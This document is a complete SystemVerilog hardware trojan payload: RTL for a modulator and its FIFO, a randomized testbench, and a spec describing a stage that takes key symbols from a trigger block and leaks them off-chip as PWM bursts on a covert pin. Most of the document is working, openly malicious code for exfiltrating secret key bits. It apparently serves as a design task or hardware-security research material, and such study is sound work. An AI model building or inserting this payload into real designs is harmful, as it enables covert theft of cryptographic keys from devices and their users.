// File: rtl/trojan_pkg.sv
// Shared types and sizing for the covert symbol modulator.
// Holds the FSM state encoding and the down-counter width helper.
package trojan_pkg;

    localparam int BITLEAK_DEF = 2;

    typedef enum logic [2:0] {
        ST_IDLE,
        ST_PRE,
        ST_GAP,
        ST_SYM,
        ST_PAR
    } state_t;

    // The counter must hold the longest interval minus one: preamble, gap or widest pulse.
    function automatic int cnt_width(input int bitleak, input int unit,
                                     input int pre_len, input int gap);
        int longest;
        longest = (1 << bitleak) * unit;
        if (pre_len > longest) longest = pre_len;
        if (gap > longest) longest = gap;
        return (longest < 2) ? 1 : $clog2(longest);
    endfunction

    localparam int CNT_W = cnt_width(BITLEAK_DEF, 4, 16, 4);

endpackage

// File: rtl/trojan_sym_fifo.sv
// DEPTH x WIDTH symbol FIFO with combinational head output and occupancy count.
// Caller guarantees push only when not full (or with a same-edge pop) and pop only when non-empty.
module trojan_sym_fifo #(
    parameter int WIDTH = 2,
    parameter int DEPTH = 8
) (
    input  logic                     clk,
    input  logic                     rst_all_n,
    input  logic                     push,
    input  logic [WIDTH-1:0]         push_dat,
    input  logic                     pop,
    output logic [WIDTH-1:0]         head_dat,
    output logic [$clog2(DEPTH):0]   level
);

    localparam int AW = $clog2(DEPTH);

    logic [WIDTH-1:0] r_mem [DEPTH];
    logic [AW-1:0]    r_wr_ptr;
    logic [AW-1:0]    r_rd_ptr;
    logic [AW:0]      r_level;

    always_ff @(posedge clk) begin
        if (push) r_mem[r_wr_ptr] <= push_dat;
    end

    // Pointers are exactly AW bits wide, so they wrap modulo DEPTH on their own.
    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            r_wr_ptr <= '0;
            r_rd_ptr <= '0;
            r_level  <= '0;
        end else begin
            if (push) r_wr_ptr <= r_wr_ptr + AW'(1);
            if (pop)  r_rd_ptr <= r_rd_ptr + AW'(1);
            if (push && !pop)      r_level <= r_level + (AW+1)'(1);
            else if (pop && !push) r_level <= r_level - (AW+1)'(1);
        end
    end

    assign head_dat = r_mem[r_rd_ptr];
    assign level    = r_level;

endmodule

// File: rtl/trojan_sym_modulator.sv
// Buffers key symbols and emits them as preamble-led PWM bursts on one registered pin.
// Optional TROJAN_MOD_PARITY_EN appends an XOR-parity pulse at the end of each burst.
module trojan_sym_modulator
    import trojan_pkg::*;
#(
    parameter int BITLEAK = BITLEAK_DEF,
    parameter int DEPTH   = 8,
    parameter int UNIT    = 4,
    parameter int GAP     = 4,
    parameter int PRE_LEN = 16
) (
    input  logic                   clk,
    input  logic                   rst_all_n,
    input  logic                   enable,
    input  logic [BITLEAK-1:0]     sym,
    output logic                   out,
    output logic                   busy,
    output logic                   ovf,
    output logic [$clog2(DEPTH):0] level
);

    localparam int CW   = cnt_width(BITLEAK, UNIT, PRE_LEN, GAP);
    localparam int PW_W = BITLEAK + $clog2(UNIT) + 1;
    localparam int LW   = $clog2(DEPTH) + 1;

    state_t             r_state;
    logic [CW-1:0]      r_cnt;
    logic               r_out;
    logic               r_ovf;
    logic [BITLEAK-1:0] w_head;
    logic [LW-1:0]      w_level;
    logic               w_cnt_done;
    logic               w_pop;
    logic               w_push;

`ifdef TROJAN_MOD_PARITY_EN
    logic [BITLEAK-1:0] r_cur_sym;
    logic [BITLEAK-1:0] r_par_acc;
    logic               r_sent;
    logic               r_par_done;
`endif

    // Widened so (2^BITLEAK)*UNIT never truncates before the minus-one.
    function automatic logic [CW-1:0] pulse_cnt(input logic [BITLEAK-1:0] s);
        logic [PW_W-1:0] cycles;
        cycles = (PW_W'(s) + PW_W'(1)) * PW_W'(UNIT);
        return CW'(cycles - PW_W'(1));
    endfunction

    assign w_cnt_done = (r_cnt == '0);
    assign w_pop      = (r_state == ST_GAP) && w_cnt_done && (w_level != '0);
    assign w_push     = enable && ((w_level != LW'(DEPTH)) || w_pop);

    trojan_sym_fifo #(
        .WIDTH (BITLEAK),
        .DEPTH (DEPTH)
    ) u_fifo (
        .clk       (clk),
        .rst_all_n (rst_all_n),
        .push      (w_push),
        .push_dat  (sym),
        .pop       (w_pop),
        .head_dat  (w_head),
        .level     (w_level)
    );

    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) r_ovf <= 1'b0;
        else if (enable && !w_push) r_ovf <= 1'b1;
    end

    // r_out is loaded with the level of the state being entered, so it tracks the state with no lag.
    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            r_state <= ST_IDLE;
            r_cnt   <= '0;
            r_out   <= 1'b0;
`ifdef TROJAN_MOD_PARITY_EN
            r_cur_sym  <= '0;
            r_par_acc  <= '0;
            r_sent     <= 1'b0;
            r_par_done <= 1'b0;
`endif
        end else begin
            if (!w_cnt_done) r_cnt <= r_cnt - CW'(1);
            case (r_state)
                ST_IDLE: begin
                    if (w_level != '0) begin
                        r_state <= ST_PRE;
                        r_cnt   <= CW'(PRE_LEN - 1);
                        r_out   <= 1'b1;
                    end
                end
                ST_PRE, ST_SYM, ST_PAR: begin
                    if (w_cnt_done) begin
`ifdef TROJAN_MOD_PARITY_EN
                        if (r_state == ST_SYM) r_par_acc <= r_par_acc ^ r_cur_sym;
`endif
                        r_state <= ST_GAP;
                        r_cnt   <= CW'(GAP - 1);
                        r_out   <= 1'b0;
                    end
                end
                ST_GAP: begin
                    if (w_cnt_done) begin
                        if (w_level != '0) begin
                            r_state <= ST_SYM;
                            r_cnt   <= pulse_cnt(w_head);
                            r_out   <= 1'b1;
`ifdef TROJAN_MOD_PARITY_EN
                            r_cur_sym <= w_head;
                            r_sent    <= 1'b1;
                        end else if (r_sent && !r_par_done) begin
                            r_state    <= ST_PAR;
                            r_cnt      <= pulse_cnt(r_par_acc);
                            r_out      <= 1'b1;
                            r_par_done <= 1'b1;
`endif
                        end else begin
                            r_state <= ST_IDLE;
                            r_out   <= 1'b0;
`ifdef TROJAN_MOD_PARITY_EN
                            r_par_acc  <= '0;
                            r_sent     <= 1'b0;
                            r_par_done <= 1'b0;
`endif
                        end
                    end
                end
                default: begin
                    r_state <= ST_IDLE;
                    r_out   <= 1'b0;
                end
            endcase
        end
    end

    assign out   = r_out;
    assign busy  = (r_state != ST_IDLE);
    assign ovf   = r_ovf;
    assign level = w_level;

endmodule

// File: tb/tb_trojan_sym_modulator.sv
// Randomized bench for trojan_sym_modulator against a waveform-queue reference model.
module tb_trojan_sym_modulator;

    localparam int BITLEAK = 2;
    localparam int DEPTH   = 8;
    localparam int UNIT    = 4;
    localparam int GAP     = 4;
    localparam int PRE_LEN = 16;

    logic       clk = 1'b0;
    logic       rst_all_n = 1'b0;
    logic       enable = 1'b0;
    logic [1:0] sym = '0;
    logic       out;
    logic       busy;
    logic       ovf;
    logic [3:0] level;

    int n_tests = 0;
    int n_fail  = 0;

    trojan_sym_modulator #(
        .BITLEAK (BITLEAK),
        .DEPTH   (DEPTH),
        .UNIT    (UNIT),
        .GAP     (GAP),
        .PRE_LEN (PRE_LEN)
    ) dut (
        .clk       (clk),
        .rst_all_n (rst_all_n),
        .enable    (enable),
        .sym       (sym),
        .out       (out),
        .busy      (busy),
        .ovf       (ovf),
        .level     (level)
    );

    always #5 clk = ~clk;

    // Reference: the pin is a queue of future output bits; bursts append whole segments.
    bit         m_wave[$];
    logic [1:0] m_symq[$];
    bit         m_idle = 1'b1;
    bit         m_ovf  = 1'b0;
    bit         m_out  = 1'b0;
    logic [1:0] m_s;
    logic [1:0] m_acc  = '0;
    bit         m_sent = 1'b0;
    bit         m_par  = 1'b0;

    task automatic emit(input int high_cycles);
        for (int i = 0; i < high_cycles; i++) m_wave.push_back(1'b1);
        for (int i = 0; i < GAP; i++) m_wave.push_back(1'b0);
    endtask

    always @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            m_wave.delete();
            m_symq.delete();
            m_idle = 1'b1;
            m_ovf  = 1'b0;
            m_out  = 1'b0;
            m_acc  = '0;
            m_sent = 1'b0;
            m_par  = 1'b0;
        end else begin
            if (m_wave.size() == 0) begin
                if (m_symq.size() != 0) begin
                    if (m_idle) begin
                        m_idle = 1'b0;
                        emit(PRE_LEN);
                    end else begin
                        m_s = m_symq.pop_front();
                        m_acc = m_acc ^ m_s;
                        m_sent = 1'b1;
                        emit((int'(m_s) + 1) * UNIT);
                    end
`ifdef TROJAN_MOD_PARITY_EN
                end else if (!m_idle && m_sent && !m_par) begin
                    m_par = 1'b1;
                    emit((int'(m_acc) + 1) * UNIT);
`endif
                end else begin
                    m_idle = 1'b1;
                    m_acc  = '0;
                    m_sent = 1'b0;
                    m_par  = 1'b0;
                end
            end
            if (enable) begin
                if (m_symq.size() < DEPTH) m_symq.push_back(sym);
                else m_ovf = 1'b1;
            end
            m_out = (m_wave.size() != 0) ? m_wave.pop_front() : 1'b0;
        end
    end

    task automatic check_eq(input string tag, input int got, input int exp);
        n_tests++;
        if (got !== exp) begin
            n_fail++;
            $display("FAIL %s: got %0d expected %0d at %0t", tag, got, exp, $time);
        end
    endtask

    task automatic step(input bit en, input logic [1:0] s);
        @(negedge clk);
        check_eq("out", int'(out), int'(m_out));
        check_eq("busy", int'(busy), int'(!m_idle));
        check_eq("ovf", int'(ovf), int'(m_ovf));
        check_eq("level", int'(level), m_symq.size());
        enable = en;
        sym = s;
    endtask

    task automatic idle_cycles(input int n);
        for (int i = 0; i < n; i++) step(1'b0, 2'b00);
    endtask

    initial begin
        // Held in reset while enable toggles: everything must stay cleared.
        for (int i = 0; i < 6; i++) begin
            @(negedge clk);
            enable = i[0];
            sym = 2'b11;
            #1;
            check_eq("rst_out", int'(out), 0);
            check_eq("rst_busy", int'(busy), 0);
            check_eq("rst_ovf", int'(ovf), 0);
            check_eq("rst_level", int'(level), 0);
        end
        @(negedge clk);
        enable = 1'b0;
        rst_all_n = 1'b1;
        idle_cycles(5);

        // Single symbol 2'b10: preamble, gap, 12-cycle pulse, gap, idle.
        step(1'b1, 2'b10);
        idle_cycles(45);

        // Burst 0 then 3 on consecutive edges shares one preamble.
        step(1'b1, 2'b00);
        step(1'b1, 2'b11);
        idle_cycles(75);

        // Nine back-to-back pushes overfill the FIFO by one.
        for (int i = 0; i < 9; i++) step(1'b1, 2'(i));
        idle_cycles(320);

        // Parity-path burst 01, 11 (third pulse only when the feature is built in).
        step(1'b1, 2'b01);
        step(1'b1, 2'b11);
        idle_cycles(80);

        // Reset four cycles into a 12-cycle symbol pulse.
        step(1'b1, 2'b10);
        idle_cycles(25);
        #2;
        rst_all_n = 1'b0;
        #1;
        check_eq("midrst_out", int'(out), 0);
        check_eq("midrst_busy", int'(busy), 0);
        check_eq("midrst_level", int'(level), 0);
        check_eq("midrst_ovf", int'(ovf), 0);
        @(negedge clk);
        rst_all_n = 1'b1;
        idle_cycles(40);

        // Random traffic with occasional overflow.
        for (int i = 0; i < 2500; i++) begin
            step(($urandom_range(0, 9) == 0), 2'($urandom_range(0, 3)));
        end
        idle_cycles(400);

        $display("[TB] %0d tests run, %0d failed", n_tests, n_fail);
        $finish;
    end

endmodule

// File: doc/trojan_sym_modulator.md
Name: trojan_sym_modulator

Overview:
- Downstream payload stage for the trigger/selector block.
- Accepts the BITLEAK-bit key symbol presented each cycle while the trigger stage asserts enable, and buffers the symbols in a small FIFO.
- Emits the symbols serially on a single covert pin as pulse-width-modulated bursts, each burst preceded by a preamble, so that slow off-chip sampling can recover them.

Parameters:
- BITLEAK, 2, symbol width in bits.
- DEPTH, 8, FIFO depth in symbols; must be a power of 2 and at least 2.
- UNIT, 4, cycles of high time per symbol unit.
- GAP, 4, cycles of low time after the preamble and after every symbol pulse.
- PRE_LEN, 16, cycles of high time for the burst preamble.

Ports:
- clk  in  1  single clock; all state updates on the rising edge.
- rst_all_n  in  1  asynchronous, active-low reset.
- enable  in  1  symbol valid from the trigger stage.
- sym  in  BITLEAK  symbol to leak; sampled when enable=1.
- out  out  1  covert modulated output (registered).
- busy  out  1  1 whenever the FSM is not in IDLE.
- ovf  out  1  sticky flag: a symbol was dropped.
- level  out  $clog2(DEPTH)+1  current FIFO occupancy.

Behaviour:
- Reset:
  - rst_all_n low clears everything immediately, without waiting for a clock edge: out=0, busy=0, ovf=0, level=0, FSM=IDLE, FIFO pointers=0, all counters=0.
  - Reset asserted mid-operation aborts the current pulse. Buffered symbols are discarded.
- Push:
  - A push happens on any edge with enable=1 and (level<DEPTH or a pop on the same edge).
  - enable=1 with level==DEPTH and no pop: the symbol is dropped and ovf is set to 1. ovf stays 1 until reset.
  - Push and pop on the same edge: both take effect and level is unchanged.
- Pop: occurs on the edge that enters SYM; the popped symbol is latched into cur_sym.
- FSM states: IDLE, PRE, GAP, SYM (plus PAR with the optional feature). A down-counter cnt is loaded on every state entry.
  - IDLE: out=0. If level>0, go to PRE with cnt=PRE_LEN-1.
  - PRE: out=1. When cnt==0, go to GAP with cnt=GAP-1.
  - GAP: out=0. When cnt==0:
    - if level>0, go to SYM (pop), cnt=(cur_sym+1)*UNIT-1;
    - else go to IDLE.
  - SYM: out=1. When cnt==0, go to GAP with cnt=GAP-1.
- Preamble: sent only once per burst, on the transition IDLE->PRE. A symbol that arrives during a GAP continues the same burst with no new preamble.
- Latency: for a push on edge E into an idle block, out rises after edge E+1.
- Pulse width arithmetic: (sym+1)*UNIT is computed at width BITLEAK+$clog2(UNIT)+1 and must not truncate. For sym=3, UNIT=4 this is 16 cycles.
- Pointers wrap modulo DEPTH. level counts 0..DEPTH inclusive.
- busy = (state != IDLE), decoded directly from the state register.

Optional Feature:
- Macro: TROJAN_MOD_PARITY_EN.
- Defined:
  - An accumulator XORs every symbol popped in the current burst.
  - When GAP ends with level==0 and at least one symbol was sent, the FSM goes to PAR instead of IDLE. PAR has out=1 for (parity+1)*UNIT cycles, then a final GAP, then IDLE.
  - The accumulator clears on entry to IDLE and on reset.
- Undefined: no PAR state and no accumulator; GAP with level==0 goes straight to IDLE.

Decomposition:
- Package trojan_pkg holds: BITLEAK default, the FSM state enum (IDLE/PRE/GAP/SYM/PAR), and the counter-width constant.
- Sub-module trojan_sym_fifo: a DEPTH x BITLEAK synchronous FIFO with push/pop/level, the same asynchronous active-low reset, and no registered read output.
- The FSM, counter and modulator stay in the top module.

Test Plan (defaults: UNIT=4, GAP=4, PRE_LEN=16):
- Reset check: hold rst_all_n=0, toggle enable -> out=0, busy=0, ovf=0, level=0. Deassert reset -> all outputs stay idle.
- Single symbol sym=2'b10 on edge 0:
  - out high after edges 1..16 (preamble), then low 4 cycles, then high 12 cycles, then low 4 cycles;
  - busy=0 from edge 37 onward.
- Burst sym=0 then sym=3 on consecutive edges -> exactly one 16-cycle preamble, then pulses of 4 and 16 cycles, each followed by a 4-cycle gap.
- 9 back-to-back pushes with DEPTH=8 -> level=8, 9th symbol dropped, ovf=1 and stays 1. Exactly 8 pulses follow.
- Reset mid-operation: assert rst_all_n=0 four cycles into a 12-cycle SYM pulse -> out=0 immediately. After release, level=0 and no further pulses.
- With TROJAN_MOD_PARITY_EN, burst 2'b01, 2'b11:
  - pulses of 8 and 16 cycles, then a parity pulse of 12 cycles (parity=2'b10), then a 4-cycle gap, then IDLE;
  - without the macro, no third pulse.
